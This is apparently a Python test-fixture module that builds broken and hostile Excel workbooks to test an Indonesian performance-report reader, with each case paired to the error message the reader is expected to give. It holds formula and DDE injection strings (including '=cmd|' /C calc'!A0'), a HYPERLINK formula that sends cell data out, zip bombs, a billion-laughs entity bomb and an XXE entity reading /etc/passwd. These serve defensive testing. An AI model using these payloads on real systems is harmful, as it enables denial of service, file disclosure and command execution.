"""Hostile and broken workbooks for the tests of issue 5, built from Python data.

No hand-edited binaries: every case starts from a standard workbook written by
``kinerja_xlsx.authoring`` (or from raw bytes) and is then damaged on purpose by editing
the zip parts, so each test says exactly what is wrong with its file.
"""

from __future__ import annotations

import datetime as _dt
import io
import re
import struct
import zipfile
from pathlib import Path
from typing import Callable

import openpyxl

from conftest import INFO, SAMPLE, row, unit
from kinerja_xlsx.authoring import Formula, UnitSheet, write_workbook

MiB = 1024 * 1024

HOSTILE_TEXTS = [
    "=HYPERLINK(\"http://contoh.invalid/?q=\"&A1,\"klik\")",
    "=cmd|' /C calc'!A0",
    "+62 812 3456 789",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "<b>tebal</b> & <img src=\"/etc/passwd\"/>",
]


# --- zip surgery ---------------------------------------------------------------------------

def rewrite(path: str | Path, edits: dict[str, Callable[[bytes], bytes] | bytes | None] | None = None,
            add: dict[str, bytes] | None = None, compression: int = zipfile.ZIP_DEFLATED) -> str:
    """Rewrite a package: ``edits`` maps a part to new bytes, a function of the old bytes, or
    None (drop it); ``add`` appends new parts."""
    edits = edits or {}
    buffer = io.BytesIO()
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(buffer, "w", compression) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename in edits:
                edit = edits[item.filename]
                if edit is None:
                    continue
                data = edit(data) if callable(edit) else edit
            zout.writestr(item.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    Path(path).write_bytes(buffer.getvalue())
    return str(path)


def sheet_part(path: str | Path, sheet: str) -> str:
    """The zip part of a sheet, found through workbook.xml and its rels."""
    with zipfile.ZipFile(path) as z:
        book = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(r'<sheet[^>]*name="%s"[^>]*r:id="([^"]+)"' % re.escape(sheet), book).group(1)
    target = re.search(r'<Relationship[^>]*Id="%s"[^>]*Target="([^"]+)"' % rid, rels) or \
        re.search(r'<Relationship[^>]*Target="([^"]+)"[^>]*Id="%s"' % rid, rels)
    name = target.group(1).lstrip("/")
    return name if name.startswith("xl/") else "xl/" + name


def standard(tmp: Path, name: str = "uji.xlsx", units=None, info=None) -> str:
    path = tmp / name
    units = units or [unit("Camat", [row(target="12 dok", realisasi="6 dok", capaian="50%", anggaran=1000, ra=500,
                                         serapan="50%")])]
    write_workbook(str(path), dict(INFO, **(info or {})), units)
    return str(path)


def zeros_stream(z: zipfile.ZipFile, name: str, size: int, filler: bytes = b" ") -> None:
    """A part of ``size`` bytes of ``filler``, streamed (never held in memory)."""
    block = filler * (MiB // len(filler))
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with z.open(info, "w", force_zip64=True) as out:
        left = size
        while left > 0:
            out.write(block[:min(left, len(block))])
            left -= len(block)


def zip_bomb(tmp: Path, size: int = 1024 * MiB, name: str = "bom.xlsx") -> str:
    """A workbook whose sheet1.xml inflates to ``size`` bytes of spaces (about 1000:1)."""
    path = tmp / name
    base = standard(tmp, "dasar_" + name)
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for item in zin.infolist():
            if item.filename != "xl/worksheets/sheet2.xml":
                z.writestr(item.filename, zin.read(item.filename))
        zeros_stream(z, "xl/worksheets/sheet2.xml", size)
    return str(path)


def lie_about_size(path: str | Path, part: str, declared: int) -> str:
    """Set the declared uncompressed size of ``part`` (central directory and local header)."""
    data = bytearray(Path(path).read_bytes())
    encoded = part.encode()
    for sig, size_at, name_len_at, name_at in ((b"PK\x01\x02", 24, 28, 46), (b"PK\x03\x04", 22, 26, 30)):
        start = 0
        while (i := data.find(sig, start)) >= 0:
            n = struct.unpack_from("<H", data, i + name_len_at)[0]
            if bytes(data[i + name_at:i + name_at + n]) == encoded:
                struct.pack_into("<I", data, i + size_at, declared)
            start = i + 4
    Path(path).write_bytes(bytes(data))
    return str(path)


# --- OLE2 compound files --------------------------------------------------------------------

def ole_file(path: Path, streams: list[str]) -> str:
    """A minimal compound file (CFB v3) whose directory names ``streams`` (empty streams)."""
    sector = 512
    header = bytearray(sector)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)  # minor, major, byte order, sector shift
    struct.pack_into("<H", header, 32, 6)  # mini sector shift
    struct.pack_into("<I", header, 44, 1)  # FAT sectors
    struct.pack_into("<I", header, 48, 1)  # first directory sector
    struct.pack_into("<I", header, 56, 4096)  # mini stream cutoff
    struct.pack_into("<I", header, 60, 0xFFFFFFFE)  # no mini FAT
    struct.pack_into("<I", header, 68, 0xFFFFFFFE)  # no DIFAT sectors
    struct.pack_into("<I", header, 76, 0)  # DIFAT[0]: FAT in sector 0
    for i in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * i, 0xFFFFFFFF)
    fat = bytearray(b"\xff" * sector)
    struct.pack_into("<II", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE)  # sector 0 = FAT, sector 1 = directory (end)
    directory = bytearray()
    names = ["Root Entry", *streams]
    for i, name in enumerate(names):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[0:len(encoded)] = encoded
        struct.pack_into("<H", entry, 64, len(encoded))
        entry[66] = 5 if i == 0 else 2  # root storage / stream
        entry[67] = 1
        struct.pack_into("<III", entry, 68, 0xFFFFFFFF, 0xFFFFFFFF, 1 if i == 0 and len(names) > 1 else 0xFFFFFFFF)
        if i > 0:
            struct.pack_into("<I", entry, 72, i + 1 if i + 1 < len(names) else 0xFFFFFFFF)  # right sibling
        struct.pack_into("<I", entry, 116, 0xFFFFFFFE)
        directory += entry
    directory += b"\x00" * (-len(directory) % sector)
    path.write_bytes(bytes(header) + bytes(fat) + bytes(directory[:sector]))
    return str(path)


# --- unreadable inputs: (builder, words the one-line message must contain) ------------------

def _missing_info(tmp: Path) -> str:
    path = tmp / "tanpa_info.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "Camat"
    book.active["A1"] = "Indikator Kinerja"
    book.save(path)
    return str(path)


def _without_key(tmp: Path) -> str:
    info = dict(INFO)
    del info["Tempat"]
    path = tmp / "tanpa_tempat.xlsx"
    write_workbook(str(path), info, [unit("Camat", [row(target=1, realisasi=1)])])
    return str(path)


def _case_twins(tmp: Path) -> str:
    path = standard(tmp, "kembar.xlsx", units=[unit("Camat", [row(target=1, realisasi=1)]),
                                              unit("CAMAX", [row(target=1, realisasi=1)])])
    return rewrite(path, {"xl/workbook.xml": lambda b: b.replace(b'name="CAMAX"', b'name="CAMAT"')})


def _long_sheet_name(tmp: Path) -> str:
    path = standard(tmp, "nama_panjang.xlsx", units=[unit("Camat", [row(target=1, realisasi=1)])])
    return rewrite(path, {"xl/workbook.xml": lambda b: b.replace(b'name="Camat"', b'name="' + b"K" * 40 + b'"')})


def _truncated(fraction: float, name: str):
    def build(tmp: Path) -> str:
        data = SAMPLE.read_bytes()
        path = tmp / name
        path.write_bytes(data[: int(len(data) * fraction)])
        return str(path)
    return build


def _corrupt_middle(tmp: Path) -> str:
    """Central directory intact, the bytes of a sheet's deflate stream scrambled."""
    data = bytearray(SAMPLE.read_bytes())
    with zipfile.ZipFile(SAMPLE) as z:
        info = z.getinfo("xl/worksheets/sheet2.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra) + 10
    for i in range(start, start + 40):
        data[i] ^= 0x5A
    path = tmp / "rusak_tengah.xlsx"
    path.write_bytes(bytes(data))
    return str(path)


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b"]>")
XXE = b'<!DOCTYPE r [<!ENTITY lol9 SYSTEM "file:///etc/passwd">]>'


def with_doctype(xml: bytes, doctype: bytes, encoding: str = "UTF-8") -> bytes:
    """A sheet's XML with a DOCTYPE after its declaration and the entity ``&lol9;`` used in a cell."""
    body = re.sub(rb"^<\?xml[^>]*\?>", b"", xml.lstrip())
    body = body.replace(b"</sheetData>", b'<row r="999"><c r="A999" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
                                         b"</sheetData>")
    text = (b'<?xml version="1.0" encoding="%s"?>' % encoding.encode() + doctype + body).decode("utf-8")
    return text.encode(encoding.lower())


def _entity_bomb(tmp: Path) -> str:
    path = standard(tmp, "bom_xml.xlsx")
    return rewrite(path, {sheet_part(path, "Camat"): lambda b: with_doctype(b, LAUGHS)})


def _entity_bomb_utf16(tmp: Path) -> str:
    path = standard(tmp, "bom_xml16.xlsx")
    return rewrite(path, {sheet_part(path, "Camat"): lambda b: with_doctype(b, LAUGHS, "UTF-16")})


def _xxe(tmp: Path) -> str:
    path = standard(tmp, "xxe.xlsx")
    return rewrite(path, {sheet_part(path, "Camat"): lambda b: with_doctype(b, XXE)})


def _merge_bomb(tmp: Path) -> str:
    path = standard(tmp, "bom_gabung.xlsx")
    part = sheet_part(path, "Camat")
    return rewrite(path, {part: lambda b: b.replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A100:XFD1048576"/></mergeCells>')})


def _declared_bomb(tmp: Path) -> str:
    path = standard(tmp, "bom_nyatakan.xlsx")
    return lie_about_size(path, sheet_part(path, "Camat"), 0xFFFFFFF0)


def _lying_bomb(tmp: Path) -> str:
    """Declares 2 KB, inflates to 50 MiB: zipfile stops at the declared size, the CRC fails."""
    path = zip_bomb(tmp, 50 * MiB, "bom_bohong.xlsx")
    return lie_about_size(path, "xl/worksheets/sheet2.xml", 2048)


def _ratio_bomb(tmp: Path) -> str:
    """15 MiB: under every size limit, but 1000:1."""
    return zip_bomb(tmp, 15 * MiB, "bom_rasio.xlsx")


def _many_parts(tmp: Path) -> str:
    return rewrite(standard(tmp, "banyak_bagian.xlsx"), add={f"xl/media/x{i}.bin": b"" for i in range(10_050)},
                   compression=zipfile.ZIP_STORED)


def _xlsb(tmp: Path) -> str:
    return rewrite(standard(tmp, "biner.xlsx"), {"xl/workbook.xml": None}, add={"xl/workbook.bin": b"\x83\x01"})


def _ods(tmp: Path) -> str:
    path = tmp / "lembar.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    return str(path)


def _bad_triwulan(tmp: Path) -> str:
    path = tmp / "triwulan.xlsx"
    write_workbook(str(path), dict(INFO, Triwulan="Semester 1"), [unit("Camat", [row(target=1, realisasi=1)])])
    return str(path)


def _no_header(tmp: Path) -> str:
    path = tmp / "tanpa_judul.xlsx"
    write_workbook(str(path), INFO, [unit("Camat", [row(target=1, realisasi=1)]),
                                     UnitSheet("Kasi", {"Jabatan": "Kasi", "Nama": "X"}, [], columns=["No", "Uraian"])])
    return str(path)


def _write(name: str, data: bytes):
    def build(tmp: Path) -> str:
        path = tmp / name
        path.write_bytes(data)
        return str(path)
    return build


UNREADABLE: dict[str, tuple[Callable[[Path], str], tuple[str, ...]]] = {
    "teks-biasa": (_write("bukan.xlsx", b"ini bukan excel\n"), ("bukan workbook Excel",)),
    "pdf": (_write("laporan.xlsx", b"%PDF-1.4\n%\xe2\xe3\n"), ("PDF",)),
    "html": (_write("web.xlsx", b"<html><body><table><tr><td>1</td></tr></table></body></html>"), ("HTML",)),
    "kosong": (_write("kosong.xlsx", b""), ("kosong",)),
    "xls-lama": (lambda tmp: ole_file(tmp / "lama.xlsx", ["Workbook", "\x05SummaryInformation"]),
                 (".xls", "Excel 97-2003", "simpan sebagai")),
    "terenkripsi": (lambda tmp: ole_file(tmp / "sandi.xlsx", ["EncryptionInfo", "EncryptedPackage",
                                                               "\x06DataSpaces"]),
                    ("kata sandi", "terenkripsi", "hapus kata sandi")),
    "ole-word": (lambda tmp: ole_file(tmp / "surat.xlsx", ["WordDocument"]), ("Word",)),
    "terpotong-separuh": (_truncated(0.5, "separuh.xlsx"), ("rusak atau terpotong",)),
    "terpotong-ujung": (_truncated(0.995, "ujung.xlsx"), ("rusak atau terpotong",)),
    "rusak-tengah": (_corrupt_middle, ("rusak",)),
    "xlsb": (_xlsb, (".xlsb",)),
    "ods": (_ods, (".ods",)),
    "zip-bom": (lambda tmp: zip_bomb(tmp, 300 * MiB), ("zip bomb", "MiB")),
    "zip-bom-rasio": (_ratio_bomb, ("zip bomb", "kali")),
    "zip-bom-dinyatakan": (_declared_bomb, ("zip bomb",)),
    "zip-bom-bohong": (_lying_bomb, ("rusak",)),
    "zip-banyak-bagian": (_many_parts, ("bagian zip",)),
    "bom-gabung": (_merge_bomb, ("digabung",)),
    "bom-xml": (_entity_bomb, ("DOCTYPE",)),
    "bom-xml-utf16": (_entity_bomb_utf16, ("DOCTYPE",)),
    "xxe": (_xxe, ("DOCTYPE",)),
    "tanpa-info": (_missing_info, ("'Info'",)),
    "tanpa-kunci": (_without_key, ("Tempat", "lembar 'Info'")),
    "triwulan-asing": (_bad_triwulan, ("Triwulan", "Semester 1", "lembar 'Info'", "sel B4")),
    "tanpa-judul-tabel": (_no_header, ("Indikator Kinerja", "lembar 'Kasi'")),
    "nama-kembar": (_case_twins, ("huruf besar",)),
    "nama-lembar-panjang": (_long_sheet_name, ("31 karakter",)),
}


# --- readable but dirty inputs --------------------------------------------------------------

def _set_cell_xml(part_xml: bytes, ref: str, new_cell: bytes) -> bytes:
    """Replace cell ``ref`` in a sheet's XML (it must exist)."""
    pattern = re.compile(rb'<c r="%s"[^>]*?(?:/>|>.*?</c>)' % ref.encode(), re.S)
    assert pattern.search(part_xml), ref
    return pattern.sub(new_cell, part_xml, count=1)


def _header_row(path: str, sheet: str) -> int:
    ws = openpyxl.load_workbook(path)[sheet]
    return next(c.row for r in ws.iter_rows() for c in r if c.value == "Indikator Kinerja")


def dirty_formulas(tmp: Path) -> str:
    """A cached #DIV/0! from a formula, a typed #REF!, and formulas with no stored value."""
    units = [unit("Camat", [
        row(target=10, realisasi=5, capaian=50, anggaran=0, ra=0, serapan=Formula("=I12/H12*100")),
        row(target=10, realisasi=Formula("=5+5"), capaian=Formula("=F13/E13*100"), anggaran="#REF!", ra=100),
    ])]
    path = tmp / "rumus.xlsx"
    write_workbook(str(path), INFO, units)
    header = _header_row(str(path), "Camat")
    part = sheet_part(path, "Camat")
    ref = f"J{header + 1}"
    return rewrite(path, {part: lambda b: _set_cell_xml(
        b, ref, b'<c r="%s" t="e"><f>I%d/H%d*100</f><v>#DIV/0!</v></c>' % (ref.encode(), header + 1, header + 1))})


def dirty_words_and_dates(tmp: Path) -> str:
    units = [unit("Camat", [
        row(target=12, realisasi=_dt.datetime(2024, 2, 1), capaian="50%", anggaran="belum ada", ra="-"),
        row(target="12 dok", realisasi="6 dok", capaian="tercapai", anggaran=_dt.date(2024, 3, 4), ra=100,
            pembilang="banyak", penyebut=True),
    ])]
    path = tmp / "kata_tanggal.xlsx"
    write_workbook(str(path), INFO, units)
    return str(path)


def dirty_merged(tmp: Path) -> str:
    """Sasaran merged over three indicators, Anggaran merged over two, a header merge."""
    units = [unit("Camat", [
        row(sasaran="Meningkatnya pelayanan", target=10, realisasi=5, capaian="150%", anggaran=3000, ra=1500,
            serapan="50%", polaritas="Negatif"),
        row(sasaran=None, target=10, realisasi=10, capaian="100%"),
        row(sasaran=None, target=4, realisasi=2, capaian="150%"),
    ])]
    for r in units[0].rows[1:]:
        r.pop("Sasaran", None)
    path = tmp / "gabung.xlsx"
    write_workbook(str(path), INFO, units)
    book = openpyxl.load_workbook(path)
    ws = book["Camat"]
    h = _header_row(str(path), "Camat")
    ws.merge_cells(f"B{h + 1}:B{h + 3}")  # Sasaran
    ws.merge_cells(f"L{h + 1}:L{h + 3}")  # Polaritas: negative for all three
    ws.merge_cells(f"H{h + 1}:H{h + 2}")  # Anggaran: one budget line for two indicators
    ws["A1"].value, ws["B1"].value = "Jabatan", "Kepala Camat"
    ws.merge_cells("B1:F1")  # above the table: ignored
    book.save(path)
    return str(path)


def dirty_hidden(tmp: Path) -> str:
    units = [unit("Camat", [row(target=10, realisasi=5, capaian="50%"), row(target=8, realisasi=8, capaian="100%")]),
             unit("Kasi Rahasia", [row(target=4, realisasi=4, capaian="100%")], atasan="Camat")]
    path = tmp / "sembunyi.xlsx"
    write_workbook(str(path), INFO, units)
    book = openpyxl.load_workbook(path)
    book["Kasi Rahasia"].sheet_state = "hidden"
    ws = book["Camat"]
    h = _header_row(str(path), "Camat")
    ws.row_dimensions[h + 2].hidden = True
    ws.column_dimensions["N"].hidden = True  # Pembilang, empty: not flagged
    ws.column_dimensions["K"].hidden = True  # Keterangan
    ws[f"K{h + 1}"] = "catatan tersembunyi"
    book.save(path)
    return str(path)


def dirty_huge_text(tmp: Path) -> str:
    units = [unit("Camat", [row(target=10, realisasi=5, capaian="50%", ket="panjang " * 400)],
                  Tugas="uraian tugas " * 600)]
    path = tmp / "teks_panjang.xlsx"
    write_workbook(str(path), INFO, units)
    huge = ("sangat panjang " * 3000).strip()  # beyond Excel's 32.767 characters: only another program writes it
    part = sheet_part(path, "Camat")
    header = _header_row(str(path), "Camat")
    ref = f"C{header + 1}"
    return rewrite(path, {part: lambda b: _set_cell_xml(
        b, ref, b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref.encode(), huge.encode()))})


def dirty_stray(tmp: Path) -> str:
    units = [unit("Camat", [row(target=10, realisasi=5, capaian="50%")])]
    path = tmp / "di_luar.xlsx"
    write_workbook(str(path), INFO, units)
    book = openpyxl.load_workbook(path)
    ws = book["Camat"]
    h = _header_row(str(path), "Camat")
    ws[f"C{h + 3}"], ws[f"E{h + 3}"], ws[f"F{h + 3}"] = "Indikator yang terpisah", 10, 9
    ws[f"J{h + 6}"] = "Kedungjajang, 14 Juli 2024"
    ws[f"J{h + 10}"] = "PEJABAT CAMAT"
    ws[f"Q{h + 1}"] = 12345  # beside the table, in a column without a header
    ws["XFD1048576"] = "jauh sekali"  # the far corner: must not make the reader walk the whole grid
    book.save(path)
    return str(path)


def dirty_nip_number(tmp: Path) -> str:
    path = tmp / "nip_angka.xlsx"
    write_workbook(str(path), INFO, [unit("Camat", [row(target=10, realisasi=5, capaian="50%")],
                                          nip=196708131987031008)])
    return str(path)


def hostile_text(tmp: Path) -> str:
    """Formula-like and markup text in every place a text can be."""
    t = HOSTILE_TEXTS
    units = [
        unit("Camat", [
            row(sasaran=t[0], indikator=t[1], satuan=t[2], target=10, realisasi=5, capaian="50%", ket=t[3]),
            row(sasaran=t[4], indikator=t[5], target="=1+1", realisasi="+5", capaian="-", ket=t[6]),
            row(sasaran=t[7], indikator=t[8], target=4, realisasi=4, capaian="100%", ket=t[0]),
        ], Tugas=t[1], Faktor=t[4], Fungsi=t[0] + "\n" + t[3], **{"Rencana Tindak Lanjut": t[8]}),
    ]
    units[0].columns = [*units[0].columns, "Catatan"]
    units[0].rows[0]["Catatan"] = t[1]
    path = tmp / "teks_jahat.xlsx"
    write_workbook(str(path), dict(INFO, Instansi="=HYPERLINK(\"http://contoh.invalid\",\"Kecamatan\")"), units)
    return str(path)


def cached_input_formulas(tmp: Path) -> str:
    """An office's own formulas, with stored values: the output keeps the values only."""
    units = [unit("Camat", [row(target=10, realisasi=5, capaian=Formula("=F12/E12*100"), ket="x")])]
    path = tmp / "rumus_kantor.xlsx"
    write_workbook(str(path), INFO, units)
    part = sheet_part(path, "Camat")
    header = _header_row(str(path), "Camat")
    r = header + 1
    cells = {f"G{r}": b'<c r="G%d"><f>F%d/E%d*100</f><v>50</v></c>' % (r, r, r),
             f"K{r}": b'<c r="K%d" t="str"><f>HYPERLINK("http://contoh.invalid","klik")</f><v>klik</v></c>' % r}

    def edit(b: bytes) -> bytes:
        for ref, xml in cells.items():
            b = _set_cell_xml(b, ref, xml)
        return b
    return rewrite(path, {part: edit})


# name -> (builder, {codes that must be found})
DIRTY: dict[str, tuple[Callable[[Path], str], set[str]]] = {
    "rumus": (dirty_formulas, {"K404"}),
    "kata-dan-tanggal": (dirty_words_and_dates, {"K404", "K104"}),
    "sel-digabung": (dirty_merged, {"K407", "K408"}),
    "tersembunyi": (dirty_hidden, {"K405", "K406"}),
    "teks-panjang": (dirty_huge_text, {"K409"}),
    "di-luar-tabel": (dirty_stray, {"K410", "K411"}),
    "nip-angka": (dirty_nip_number, set()),
    "teks-jahat": (hostile_text, set()),
    "rumus-kantor": (cached_input_formulas, set()),
}


def sample(tmp: Path) -> str:
    return str(SAMPLE)


READABLE: dict[str, Callable[[Path], str]] = {"contoh": sample, **{k: v[0] for k, v in DIRTY.items()}}

__all__ = ["UNREADABLE", "DIRTY", "READABLE", "HOSTILE_TEXTS", "rewrite", "sheet_part", "zip_bomb", "standard",
           "ole_file", "MiB"]
